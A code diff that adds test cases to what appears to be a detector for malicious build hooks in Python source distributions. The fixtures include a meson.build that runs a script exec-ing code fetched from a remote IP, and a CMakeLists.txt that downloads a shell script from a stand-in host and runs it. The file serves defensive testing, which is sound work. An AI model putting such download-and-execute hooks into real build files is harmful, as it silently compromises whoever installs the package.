@@ -116,6 +116,11 @@ version = "«version»"
 fn hooks(cases: &mut Cases) {
     cases
         .technique(12, "build-hook", Build)
+        .case("meson-starts-script", sdist().file("meson.build", "project('x')\npy = import('python').find_installation()\nrun_command(py, 'tools/rev.py', check: false)\n")
+            .file("pyproject.toml", "[build-system]\nrequires = ['meson-python']\nbuild-backend = 'mesonpy'\n")
+            .file("tools/rev.py", "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.12/r').read())\n"))
+        .case("cmake-runs-download", sdist().file("CMakeLists.txt", "file(DOWNLOAD \"http://stage.example.invalid/c\" \"${CMAKE_BINARY_DIR}/cfg.sh\")\nexecute_process(COMMAND sh \"${CMAKE_BINARY_DIR}/cfg.sh\")\n")
+            .file("pyproject.toml", "[build-system]\nrequires = ['scikit-build-core']\nbuild-backend = 'scikit_build_core.build'\n"))
         .case(
             "hatch",
             sdist()
